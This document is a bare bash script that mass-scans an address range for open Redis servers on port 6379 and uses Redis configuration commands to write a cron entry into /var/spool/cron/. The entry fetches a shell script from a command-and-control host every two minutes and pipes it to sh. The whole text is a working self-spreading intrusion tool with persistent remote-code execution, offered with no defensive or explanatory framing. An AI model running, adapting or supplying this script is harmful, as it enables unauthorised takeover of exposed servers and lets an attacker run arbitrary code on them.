#!/bin/bash
echo 'config set dbfilename "backup.db"' > .dat
echo 'set Backup1 "\t\n*/2 * * * * curl -fsSL http://c2.example.invalid/i.sh | sh\n\t"' >> .dat
echo 'config set dir "/var/spool/cron/"' >> .dat
masscan --max-rate 10000 -p6379 198.51.100.0/24 | while read line; do
  cat .dat | redis-cli -h $line --raw
done
